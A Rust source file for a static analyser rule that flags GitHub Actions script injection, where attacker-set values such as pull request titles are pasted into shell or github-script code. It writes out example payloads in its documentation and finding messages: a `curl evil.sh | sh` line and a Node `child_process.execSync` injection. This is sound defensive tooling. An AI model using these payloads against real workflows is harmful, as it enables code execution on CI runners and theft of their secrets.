//! Attacker-controllable GitHub contexts expanded by `${{ }}` into a script.
//!
//! `${{ }}` is replaced by its value before the shell (or `actions/github-script`'s JavaScript) sees
//! the text, so a pull request titled `"; curl evil.sh | sh; "` becomes code. Only what can flow into
//! the expression's value counts (`contains(github.event.issue.title, 'x')` is a boolean), and only
//! contexts an outsider sets: titles, bodies, comments, branch names, commit messages, label names.
//! `env.X` counts when `X` is set from one of them. Values passed through `env:` and read as
//! `"$X"` are data, and are never flagged.
//!
//! In a local reusable workflow or composite action, `inputs.X` counts when a caller in the
//! repository fills `X` with such a value (see [`calls::tainted_inputs`]): the finding is here, where
//! the value becomes code, with the caller's `with:` line as a related location.

use crate::model::Node;
use crate::pipeline::github::calls::{self, TaintedInput};
use crate::pipeline::github::expr::{Expr, Segment, SourceMap, path_text};
use crate::pipeline::github::outputs;
use crate::pipeline::github::taint::{tainted, tainted_source};
use crate::pipeline::github::workflow::{Job, Step, Workflow, env_entry};
use crate::rules::{FileView, RawFinding, RawRelated, documents};
use crate::source::FileKind;

pub fn check(file: &FileView<'_>) -> Vec<RawFinding> {
    let mut out = Vec::new();
    for doc in documents(file) {
        let wf = Workflow::new(doc);
        let inputs = called_with(file, &wf);
        let pr = ["pull_request", "pull_request_target"].iter().any(|t| wf.trigger(t).is_some());
        for (job, steps) in wf.all_steps() {
            for step in &steps {
                for (sink, node) in sinks(step) {
                    let Some(decoded) = node.as_str() else { continue };
                    let map = SourceMap::new(decoded, file.text, node.span);
                    for (k, occ) in map.occurrences().iter().enumerate() {
                        let Ok(expr) = &occ.parsed else { continue };
                        for c in expr.dataflow_contexts() {
                            let at = Context {
                                wf: &wf,
                                job: job.as_ref(),
                                steps: &steps,
                                step,
                                sink,
                                inputs: &inputs,
                                text: file.text,
                                pr,
                            };
                            let Some((detail, related)) = explain(&at, c) else { continue };
                            out.push(RawFinding {
                                span: map.source_span(k, c.span),
                                detail: Some(detail),
                                related,
                                ..RawFinding::default()
                            });
                        }
                    }
                }
            }
        }
    }
    out
}

/// The inputs callers fill with outsider-controlled values, when this file is a local reusable
/// workflow or composite action whose code reads `inputs` at all.
fn called_with(file: &FileView<'_>, wf: &Workflow<'_>) -> Vec<TaintedInput> {
    let callee = match file.kind {
        FileKind::GithubAction => wf.doc.get("runs").and_then(|r| r.get("steps")).is_some(),
        FileKind::GithubWorkflow => wf.trigger("workflow_call").is_some(),
        _ => false,
    };
    if !callee || !file.text.contains("inputs.") {
        return Vec::new();
    }
    calls::tainted_inputs(file.workspace, file.path)
}

/// Where a context is read.
struct Context<'a, 'w> {
    wf: &'a Workflow<'w>,
    job: Option<&'a Job<'w>>,
    /// Every step of the job, for the outputs of earlier ones.
    steps: &'a [Step<'w>],
    step: &'a Step<'w>,
    sink: Sink,
    inputs: &'a [TaintedInput],
    text: &'a str,
    /// The workflow runs on pull requests (their file and branch names are an outsider's).
    pr: bool,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Sink {
    Shell,
    GithubScript,
    /// An input that an action runs as code: `(action, input, what runs it)`.
    Input(&'static str, &'static str, &'static str),
}

/// Inputs of well-known actions that are run as code.
const CODE_INPUTS: &[(&str, &str, &str)] = &[
    ("appleboy/ssh-action", "script", "a shell script on the remote host"),
    ("garygrossgarten/github-action-ssh", "command", "a shell command on the remote host"),
    ("azure/cli", "inlinescript", "an Azure CLI shell script"),
    ("azure/powershell", "inlinescript", "a PowerShell script"),
    ("mikefarah/yq", "cmd", "a shell command"),
    ("devorbitus/yq-action-output", "cmd", "a shell command"),
    ("sergeysova/jq-action", "cmd", "a shell command"),
    ("addnab/docker-run-action", "run", "a shell script in the container"),
    ("addnab/docker-run-action", "options", "`docker run` arguments"),
    ("nick-fields/retry", "command", "a shell command"),
    ("nick-invision/retry", "command", "a shell command"),
    ("gautamkrishnar/blog-post-workflow", "item_exec", "JavaScript"),
];

/// The step's code: its `run:` script, `actions/github-script`'s `script:` input, or an input a
/// known action runs.
fn sinks<'a>(step: &Step<'a>) -> Vec<(Sink, &'a Node)> {
    if let Some(run) = step.run() {
        return vec![(Sink::Shell, run)];
    }
    let Some(action) = step.action() else { return Vec::new() };
    if action == "actions/github-script" {
        return step.with("script").map(|s| (Sink::GithubScript, s)).into_iter().collect();
    }
    let with = step.node.get("with").map(Node::entries).unwrap_or(&[]);
    CODE_INPUTS
        .iter()
        .filter(|(a, _, _)| *a == action)
        .filter_map(|&(a, input, runs)| {
            let entry = with.iter().find(|e| e.key.eq_ignore_ascii_case(input))?;
            Some((Sink::Input(a, input, runs), &entry.value))
        })
        .collect()
}

/// Why context `c` is dangerous in this script (and where its value comes from), or `None` when it
/// is not.
fn explain(at: &Context<'_, '_>, c: &Expr) -> Option<(String, Vec<RawRelated>)> {
    let sink = at.sink;
    let path = c.context_path()?;
    let text = path_text(&path);
    let var = env_name(&path);
    if let Some(who) = tainted(&path) {
        return Some((
            format!(
                "`{text}` is set by {who} and is pasted into the {} before it runs, so a value like `{}` runs as code; {}",
                sink_name(sink),
                payload(sink),
                fix(sink, &var, &format!("${{{{ {text} }}}}")),
            ),
            Vec::new(),
        ));
    }
    if let Some((id, name)) = outputs::output_ref(c) {
        let o = outputs::step_output(at.text, (at.wf, at.job), at.steps, at.step.index, &id, &name, at.pr)?;
        return Some((
            format!(
                "`steps.{id}.outputs.{name}` holds {} (set by step `{id}`), which is set by {}, and is pasted into the {} before it runs, so a value like `{}` runs as code; {}",
                if o.source.contains(' ') { o.source.clone() } else { format!("`{}`", o.source) },
                o.who,
                sink_name(sink),
                payload(sink),
                fix(sink, &var, &format!("${{{{ steps.{id}.outputs.{name} }}}}")),
            ),
            vec![RawRelated::here(o.span, format!("step `{id}` sets `{name}` from {}", o.source))],
        ));
    }
    let [Segment::Name(head), Segment::Name(name)] = path.as_slice() else { return None };
    match head.as_str() {
        "inputs" => explain_input(at, name, &var),
        // `${{ env.X }}` where `X` is set from a tainted context (or input) is pasted in just the same.
        "env" => {
            let entry = env_entry(at.wf, at.job, at.step, name)?;
            let value = entry.value.as_str()?;
            let (holds, related) = match tainted_source(value) {
                Some(source) => (format!("`{source}`"), Vec::new()),
                None => {
                    let input = input_read_by(value, at.inputs)?;
                    let holds = format!(
                        "`inputs.{}`, which {} fills with `{}`",
                        input.input,
                        input.call.describe(),
                        input.source
                    );
                    (holds, related_calls(at.inputs, &input.input))
                }
            };
            let name = &entry.key;
            Some((
                format!(
                    "`env.{name}` holds {holds}, and `${{{{ env.{name} }}}}` pastes it into the {} before it runs, so a value like `{}` runs as code; {}",
                    sink_name(sink),
                    payload(sink),
                    match sink {
                        Sink::Shell | Sink::Input(..) =>
                            format!("reference the variable instead: `\"${name}\"`"),
                        Sink::GithubScript => format!("read it as `process.env.{name}` instead"),
                    },
                ),
                related,
            ))
        }
        _ => None,
    }
}

/// `inputs.NAME` of a local workflow or action that a caller fills with an outsider's value.
fn explain_input(at: &Context<'_, '_>, name: &str, var: &str) -> Option<(String, Vec<RawRelated>)> {
    let first = at.inputs.iter().find(|t| t.input == name)?;
    let others = at.inputs.iter().filter(|t| t.input == name).count() - 1;
    let more = match others {
        0 => String::new(),
        1 => " (and 1 other call)".to_string(),
        n => format!(" (and {n} other calls)"),
    };
    let sink = at.sink;
    Some((
        format!(
            "`inputs.{name}` is filled by {}{more} with `{}`, which is set by {}, and is pasted into the {} before it runs, so a value like `{}` runs as code; {}",
            first.call.describe(),
            first.source,
            first.who,
            sink_name(sink),
            payload(sink),
            fix(sink, var, &format!("${{{{ inputs.{name} }}}}")),
        ),
        related_calls(at.inputs, name),
    ))
}

/// The first tainted input an env value is built from.
fn input_read_by<'a>(value: &str, inputs: &'a [TaintedInput]) -> Option<&'a TaintedInput> {
    crate::pipeline::github::expr::find(value).iter().find_map(|occ| {
        let expr = occ.parsed.as_ref().ok()?;
        expr.dataflow_contexts().into_iter().filter_map(Expr::context_path).find_map(|p| match p.as_slice() {
            [Segment::Name(h), Segment::Name(n)] if h == "inputs" => inputs.iter().find(|t| t.input == *n),
            _ => None,
        })
    })
}

/// The callers' `with:` lines that fill input `name` (and, for nested calls, where the value entered).
fn related_calls(inputs: &[TaintedInput], name: &str) -> Vec<RawRelated> {
    let mut out = Vec::new();
    for t in inputs.iter().filter(|t| t.input == name) {
        for hop in &t.upstream {
            out.push(RawRelated {
                span: hop.span,
                message: format!("`{}` enters here, as input `{}`", t.source, hop.input),
                file: Some(hop.file.clone()),
            });
        }
        out.push(RawRelated {
            span: t.with_span,
            message: format!("passes `{}` as input `{}`", t.source, t.input),
            file: Some(t.call.caller.file.clone()),
        });
    }
    out
}

fn sink_name(sink: Sink) -> String {
    match sink {
        Sink::Shell => "shell script".into(),
        Sink::GithubScript => "`actions/github-script` code".into(),
        Sink::Input(action, input, runs) => {
            format!("`{input}` input of `{action}`, which runs it as {runs},")
        }
    }
}

fn payload(sink: Sink) -> &'static str {
    match sink {
        Sink::Shell | Sink::Input(..) => "\"; curl evil.sh | sh; \"",
        Sink::GithubScript => "\"); require('child_process').execSync('id'); (\"",
    }
}

fn fix(sink: Sink, var: &str, expr: &str) -> String {
    match sink {
        Sink::Shell => format!("pass it through `env:` (`{var}: {expr}`) and use `\"${var}\"` in the script"),
        Sink::GithubScript => {
            format!("pass it through `env:` (`{var}: {expr}`) and read `process.env.{var}` in the script")
        }
        Sink::Input(..) => {
            format!(
                "pass it through an environment variable (`{var}: {expr}`) and reference `\"${var}\"` instead"
            )
        }
    }
}

/// An environment variable name for a context: its last property, upper-cased (`TITLE`, `HEAD_REF`).
fn env_name(path: &[Segment]) -> String {
    let names: Vec<&str> = path
        .iter()
        .filter_map(|s| match s {
            Segment::Name(n) => Some(n.as_str()),
            Segment::Any => None,
        })
        .collect();
    let last = match names.as_slice() {
        ["github", "head_ref"] => "head_ref".to_string(),
        [.., parent, "ref" | "name" | "email" | "label"] => {
            format!("{parent}_{}", names.last().unwrap_or(&""))
        }
        [.., last] => last.to_string(),
        [] => "value".to_string(),
    };
    last.replace('-', "_").to_ascii_uppercase()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::github::expr::parse;

    fn path(s: &str) -> Vec<Segment> {
        parse(s).unwrap().context_path().unwrap()
    }

    #[test]
    fn tainted_contexts() {
        assert!(tainted(&path("github.event.pull_request.title")).is_some());
        assert!(tainted(&path("github.event.commits[0].message")).is_some());
        assert!(tainted(&path("github.event.pull_request")).is_some());
        assert!(tainted(&path("github.event.pull_request.number")).is_none());
        assert!(tainted(&path("github.event.pull_request.head.sha")).is_none());
        assert!(tainted(&path("github.ref_name")).is_none());
        assert!(tainted(&path("inputs.title")).is_none());
    }

    #[test]
    fn env_names() {
        assert_eq!(env_name(&path("github.event.pull_request.title")), "TITLE");
        assert_eq!(env_name(&path("github.head_ref")), "HEAD_REF");
        assert_eq!(env_name(&path("github.event.pull_request.head.ref")), "HEAD_REF");
        assert_eq!(env_name(&path("github.event.head_commit.author.email")), "AUTHOR_EMAIL");
    }
}
